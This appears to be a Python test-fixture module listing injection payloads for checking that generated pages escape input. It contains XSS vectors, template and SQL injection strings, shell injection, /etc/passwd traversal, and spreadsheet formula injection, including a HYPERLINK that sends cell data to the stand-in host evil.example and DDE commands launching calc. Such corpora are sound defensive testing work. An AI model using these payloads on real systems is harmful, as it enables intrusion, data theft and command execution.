"""Attacks on whoever reads a page: the known ways to run a script or to ask another host for something.

Each calls ``alert`` or asks ``evil.example`` for something, so that one look tells whether it worked.
"""

from __future__ import annotations

from collections.abc import Iterable, Iterator
from itertools import product
from urllib.parse import quote

HOST = "evil.example"
RUN = "alert(1)"

# What loads or runs by itself, with an event that fires without a hand on the mouse.
_ELEMENTS = (
    "img src=x", "svg", "body", "video src=x", "audio src=x", "iframe src=about:blank", "input autofocus",
    "select autofocus", "textarea autofocus", "details open", "marquee", "object data=x", "embed src=x",
    "style", "link rel=stylesheet href=x", "script src=x", "video><source src=x", "svg><animate attributeName=x dur=1s",
    "math", "table background=x", "button autofocus", "a href=x autofocus tabindex=1", "form", "meter",
)  # fmt: skip
_EVENTS = (
    "onload", "onerror", "onfocus", "ontoggle", "onstart", "onbegin", "onend", "onpageshow", "onanimationstart",
    "ontransitionend", "onmouseover", "onclick", "onauxclick", "onpointerenter", "onwheel",
)  # fmt: skip

_SCHEMES = (
    "javascript:{}", "JaVaScRiPt:{}", "java\tscript:{}", "java\nscript:{}", "java\rscript:{}", " javascript:{}",
    "\x01javascript:{}", "\x1fjavascript:{}", "javascript\t:{}", "javascript&colon;{}", "&#106;avascript:{}",
    "&#x6a;avascript:{}", "&#0000106avascript:{}", "java&Tab;script:{}", "java&NewLine;script:{}",
    "javascript://%0a{}", "javascript://x.example/%0d%0a{}", "vbscript:{}", "livescript:{}",
    "data:text/html,<script>{}</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload={}>", "blob:null/{}", "filesystem:null/{}", "view-source:javascript:{}",
    "feed:javascript:{}", "jar:javascript:{}", "ｊavascript:{}", "\u200bjavascript:{}", "\ufeffjavascript:{}",
    "\u00a0javascript:{}", "//evil.example/{}", "\\\\evil.example\\{}", "/\\evil.example/{}", "\\/evil.example/{}",
    "/\t/evil.example/{}", "https:evil.example/{}", "file:///etc/passwd#{}", "about:blank#{}", "ftp://evil.example/{}",
)  # fmt: skip
_LINKS = (
    '<a href="{}">a</a>', "<a href='{}'>a</a>", "<iframe src='{}'></iframe>", "<form action='{}'><input type=submit></form>",
    "<svg><a xlink:href='{}'><text>a</text></a></svg>", "[a]({})", "[a](<{}>)", "![a]({})", "<{}>", "[a]: {}\n\n[a]",
)  # fmt: skip

_BREAKS = (
    "", "'", '"', "'>", '">', "-->", "]]>", "</title>", "</textarea>", "</script>", "</style>", "</noscript>", "</template>",
    "</svg>", "</math>", "*/", "\\", "{{", "{%", "${", "`", "%>", "?>", "\u2028", "\x00", "\u200e",
)  # fmt: skip
_PAYLOADS = (
    f"<script>{RUN}</script>", f"<img src=x onerror={RUN}>", f"<svg onload={RUN}>", f"<svg/onload={RUN}//",
)  # fmt: skip

_SINGLE = (
    f"<SCRIPT>{RUN}</SCRIPT>", f"<script >{RUN}</script >", f"<script\x0b>{RUN}</script>", f"<script/x>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>", f"<<script>{RUN}//<</script>", f"<script>{RUN}", f"<script\n>{RUN}</script\n>",
    f"<script src=//{HOST}/x.js></script>", f"<script src=https://{HOST}/x.js></script>", "<script type=module>import('//evil.example/x')</script>",
    f"<svg><script>{RUN}</script></svg>", f"<svg><script xlink:href=//{HOST}/x.js />", f"<svg><style><img src=x onerror={RUN}></style>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>", f"<math><mi//xlink:href='data:x,<script>{RUN}</script>'>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>", f"<template><script>{RUN}</script></template>",
    f"<xmp><p title='</xmp><svg/onload={RUN}>'>", f"<plaintext><img src=x onerror={RUN}>", f"<!--><img src=x onerror={RUN}>-->",
    f"<!--<img src='--><img src=x onerror={RUN}//'>", f"<![CDATA[<img src=x onerror={RUN}>]]>", f"<?xml-stylesheet href='javascript:{RUN}'?>",
    f"<!DOCTYPE x [<!ENTITY e '<script>{RUN}</script>'>]>&e;", f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<meta http-equiv=refresh content='0;url=https://{HOST}/'>", f"<meta http-equiv=Set-Cookie content='a=1;domain={HOST}'>",
    f"<base href=https://{HOST}/>", f"<base href='javascript:{RUN};//'>", f"<link rel=stylesheet href=https://{HOST}/x.css>",
    f"<link rel=import href=https://{HOST}/x>", f"<link rel=preload as=image href=https://{HOST}/x>", f"<link rel=dns-prefetch href=//{HOST}>",
    f"<link rel=prefetch href=https://{HOST}/x>", f"<link rel=manifest href=https://{HOST}/x>", f"<link rel=icon href=https://{HOST}/x.ico>",
    f"<style>@import url(https://{HOST}/x.css);</style>", f"<style>body{{background:url(https://{HOST}/x)}}</style>",
    f"<style>@font-face{{font-family:x;src:url(//{HOST}/x)}}*{{font-family:x}}</style>", f"<p style='background:url(https://{HOST}/x)'>x",
    f"<p style='width:expression({RUN})'>x", f"<p style='-moz-binding:url(//{HOST}/x#x)'>x", "<p style='position:fixed;inset:0;z-index:9'>x",
    f"<img src=https://{HOST}/x.png>", f"<img srcset='https://{HOST}/x.png 1x'>", f"<picture><source srcset=https://{HOST}/x><img></picture>",
    f"<img src=x:x onerror={RUN}>", f"<img/src=x/onerror={RUN}>", "<img src=x onerror='&#97;lert(1)'>", f"<img src=x OnErRoR={RUN}>",
    f"<img src=x onerror\x0c={RUN}>", f"<img src=`x`onerror={RUN}>", f"<img src='x'onerror={RUN}>", f"<img \x00src=x onerror={RUN}>",
    f"<img lowsrc='javascript:{RUN}'>", f"<img dynsrc='javascript:{RUN}'>", f"<input type=image src=https://{HOST}/x>",
    f"<video poster=https://{HOST}/x></video>", f"<video src=https://{HOST}/x autoplay></video>", f"<audio src=https://{HOST}/x autoplay>",
    f"<track src=https://{HOST}/x default>", f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>", f"<iframe src=https://{HOST}/></iframe>",
    f"<iframe srcdoc='&lt;svg onload=parent.{RUN}&gt;'></iframe>", f"<frameset><frame src=https://{HOST}/></frameset>",
    f"<object data=https://{HOST}/x></object>", f"<object data='data:text/html,<script>parent.{RUN}</script>'></object>",
    f"<embed src=https://{HOST}/x.swf>", f"<applet code=x archive=https://{HOST}/x.jar>", f"<bgsound src=https://{HOST}/x>",
    f"<isindex action='javascript:{RUN}' type=image>", f"<form><button formaction='javascript:{RUN}'>x</button></form>",
    f"<form id=f action=https://{HOST}/><input name=x></form><button form=f>x</button>", f"<keygen autofocus onfocus={RUN}>",
    f"<svg><image href=https://{HOST}/x>", f"<svg><use href=https://{HOST}/x#a>", f"<svg><feImage href=https://{HOST}/x>",
    f"<svg><set attributeName=href to='javascript:{RUN}'>", f"<svg><animate attributeName=href values='javascript:{RUN}' />",
    f"<svg><foreignObject><iframe srcdoc='<script>parent.{RUN}</script>'></foreignObject>", f"<svg><handler type=text/javascript>{RUN}</handler>",
    f"<svg><desc><![CDATA[</desc><script>{RUN}</script>]]></svg>", f"<svg><title><style><a id='</style><img src=1 onerror={RUN}>'>",
    f"<body background=https://{HOST}/x>", f"<table><td background=https://{HOST}/x>", f"<a ping=https://{HOST}/ href=#>x</a>",
    f"<a href=https://{HOST}/ target=_blank>x</a>", f"<area href='javascript:{RUN}'>", f"<xss onclick={RUN} tabindex=1 autofocus onfocus={RUN}>",
    f"<portal src=https://{HOST}/>", f"<dialog open onclose={RUN}>x</dialog>", f"<slot onslotchange={RUN}>", f"<custom-x is=x onload={RUN}>",
    f"<p id=x onanimationend={RUN} style='animation:x'>", f"<div contenteditable autofocus onfocus={RUN}>", f"<label for=x onclick={RUN}>x",
    "{{constructor.constructor('alert(1)')()}}", "{{7*7}}{% include '/etc/passwd' %}", "{{ ''.__class__.__mro__ }}", "{% raw %}{% endraw %}{{ config }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}", "${alert(1)}", "#{alert(1)}", "<%= alert(1) %>", "<?php system('id') ?>",
    "<!--#exec cmd='id' -->", "<esi:include src='https://evil.example/'/>", "]]>]]>&lt;script&gt;alert(1)&lt;/script&gt;",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;img src=x onerror=alert(1)&amp;gt;", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "＜script＞alert(1)＜/script＞", "\u02bascript\u02ba onerror=alert(1)",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(1) )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(1)//>\\x3e",
    "'-alert(1)-'", '"-alert(1)-"', "';alert(1)//", '";alert(1)//', "\\';alert(1)//", "</script><script>alert(1)</script>", "<!--<script>",
    '","@type":"Person","url":"javascript:alert(1)', '"}</script><img src=x onerror=alert(1)>', "\u2028alert(1)\u2029",
    "x onmouseover=alert(1) y", '" onfocus=alert(1) autofocus x="', "' onfocus=alert(1) autofocus x='", "` onfocus=alert(1) autofocus x=`",
    '" style="background:url(//evil.example/x)', '"><base href="https://evil.example/">', '"><link rel=stylesheet href=//evil.example>',
)  # fmt: skip


def markup() -> tuple[str, ...]:
    """Return attacks that stand in running text, in titles and in names."""
    fired = (f"<{e} {on}={RUN}>" for e, on in product(_ELEMENTS, _EVENTS))
    broken = (f"{end}{payload}" for end, payload in product(_BREAKS, _PAYLOADS))
    return tuple(dict.fromkeys((*_SINGLE, *fired, *broken)))


def addresses() -> tuple[str, ...]:
    """Return addresses that run something, or lead where they do not seem to."""
    return tuple(dict.fromkeys(scheme.format(RUN) for scheme in _SCHEMES))


def links() -> tuple[str, ...]:
    """Return links of HTML and Markdown to such addresses."""
    return tuple(link.format(address) for link, address in product(_LINKS, addresses()))


def everything() -> tuple[str, ...]:
    """Return all attacks."""
    return tuple(dict.fromkeys((*markup(), *addresses(), *links())))


FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\ufeff=1+1",
    "\u200b=1+1", '=HYPERLINK("https://evil.example/?x="&A1,"x")', '=IMPORTXML("https://evil.example/","//a")', "＝1+1", "＋1", "－1", "＠SUM(1)",
    "%0A=1+1", "|calc", ";=1+1", ",=1+1", '"=1+1', "'=1+1", '=DDE("cmd";"/C calc";"x")',
)  # fmt: skip
"""Cells that a spreadsheet would run."""

LINES = (
    "x\r\nEND:VEVENT\r\nBEGIN:VALARM\r\nACTION:PROCEDURE\r\nATTACH:https://evil.example/x",
    "x\nATTENDEE:mailto:a@evil.example", "x\u2028DTSTART:19700101T000000Z", "x\x85BEGIN:VEVENT", "x\x0bEND:VCALENDAR", "x\x0cURL:https://evil.example/",
    "x\r\nER  - \r\nTY  - BOOK", "x\nUR  - javascript:alert(1)", "x}\n@preamble{\\input{/etc/passwd}}", "x}},\n@string{a={b}}", "\\input{/etc/passwd}",
    "\\write18{id}", "x\n\n@article{evil, title={y}}", "x\\nEND:VEVENT", 'x;ALTREP="https://evil.example/"', "\\end{document}", "x%\n",
)  # fmt: skip
"""Values that would begin a line, or a field, of their own in a calendar or a bibliography."""

NAUGHTY = (
    "undefined", "null", "NULL", "None", "nil", "true", "false", "NaN", "Infinity", "-0", "0x0", "1e309", "1/0", "0", "-1", "00", "١٢٣",
    "__proto__", "constructor", "toString", "hasOwnProperty", "__class__", "then", "length", "prototype",
    "CON", "PRN", "AUX", "NUL", "COM1", "LPT9", "con.txt", "aux.html", "desktop.ini", ".DS_Store", "Thumbs.db", "~", ".", "..", "...", "-", "--", "-rf",
    "index", "index.html", "404", "events", "articles", "data", "site", "manifest", "dossier.json", "search", "compare", "s0-5", "p1", "main", "record", "q1",
    "../../etc/passwd", "..\\..\\windows\\system32", "/etc/passwd", "C:\\x", "file:///etc/passwd", "%2e%2e%2f", "a/../../b", "\\\\host\\share", "a:b", "a|b", "a*b?",
    "Ω≈ç√∫˜µ≤≥÷", "åß∂ƒ©˙∆˚¬…æ", "œ∑´®†¥¨ˆøπ“‘", "¡™£¢∞§¶•ªº–≠", "ЁЂЃЄЅІЇЈЉЊЋЌЍЎЏАБВ", "⁰⁴⁵₀₁₂", "ด้้้้้็็็็็้้้้้็็็็็", "田中さんにあげて下さい", "사회과학원", "ヽ༼ຈل͜ຈ༽ﾉ", "(｡◕ ∀ ◕｡)",
    "😍", "👩‍👩‍👧‍👦", "🇹🇹🇷🇷", "✋🏿 💪🏿", "👾 🙇 💁", "١٢٣ اَلْعَرَبِيَّةُ", "הָיְתָהtestالصفحات", "ﷺ ﷽", "בְּרֵאשִׁית", "مُنَاقَشَةُ سُبُلِ",
    "\u202etest\u202c", "\u2066\u2067test\u2069", "test\u200etest", "\u2060t\u2060", "\ufeff", "\u200b\u200b", "\u180e", "\u00ad\u00ad", "\ufffe", "\ufdd0", "\U000e0041",
    "Ṱ̺̺̕o͞ ̷i̲̬͇̪͙n̝̗͕v̟̜̘̦͟o̶̙̰̠kè͚̮̺̪̹̱̤", "Z̮̞̠͙͔ͅḀ̗̞͈̻̗Ḷ͙͎̯̹̞͓G̻O̭̗̮", "˙ɐnbᴉlɐ ɐuƃɐɯ", "Ｔｈｅ ｑｕｉｃｋ", "𝐓𝐡𝐞 𝐪𝐮𝐢𝐜𝐤", "𝕿𝖍𝖊", "⒯⒣⒠", "раураl", "ΑΒΕ", "ıİiI", "ſK", "ß ẞ SS", "ﬁ ﬂ", "Å Å Å",
    "a\u0301\u0301", "\u0301", "\u20dd", "\U0001d173", "A\u030a", "ǅ ǆ", "İstanbul", "I\u0307", "\ud7ff", "\uf8ff", "\U0010ffff",
    "' OR 1=1 -- 1", "1;DROP TABLE users", "1'; DROP TABLE users-- 1", "$(touch /tmp/blns.fail)", "`touch /tmp/blns.fail`", "| touch /tmp/x", "&& id", "%s%n%d", "%x%x", "{0}", "{}", "%(x)s", "%*.*s", "$HOME", "$ENV{'HOME'}", "%USERPROFILE%",
    "\x1b[31mred\x1b[0m", "\x07", "\x08\x08", "\x7f", "\x1b]0;title\x07", "\x9b31m", "a\u0000b", "\r", "\u0085", "\u2028\u2029",
    "Scunthorpe General Hospital", "Craig Cockburn, Software Specialist", "If you're reading this, you've been in a coma", "Roses are red", "The quic\b\b\b\b\b\bk", "Powerلُلُصّبُلُلصّبُررً ॣ ॣh ॣ ॣ冗", "🏳0🌈️",
    "=", "#", "##", "# x", "---", "***", "```", "~~~", "> x", "- x", "1. x", "|a|b|", "[x]", "[]()", "![](x)", "<>", "&", "&amp;", "&#0;", "&#x110000;", "&nbsp;", "\\", "\\\\", '"', "'", "“”", "`",
    "key: value", "- a: b", "*alias", "&anchor x", "!!python/object:os.system x", "!tag x", "%YAML 1.2", "@x", "? x", "[a, b", "{a: b", "0o17", "2031-02-30", "12:30:45", "1_000", "yes", "no", "on", "off",
)  # fmt: skip
"""Strings that break programs, as titles, names and names of files."""


def file_names(texts: Iterable[str] = ()) -> Iterator[str]:
    """Yield names of files, as far as a file system takes them: of these texts, or of all that are kept here."""
    for text in texts or (*NAUGHTY, *_SINGLE, *FORMULAS, *addresses()):
        name = text.replace("/", "∕").replace("\x00", "")[:60]
        if name.strip(".~ \r\n\t") and not name.startswith("."):
            yield name
    yield from ("a\nb", "a\tb", "a\rb", "\x1b[31m", "%3Cscript%3E", quote("<svg onload=alert(1)>"))
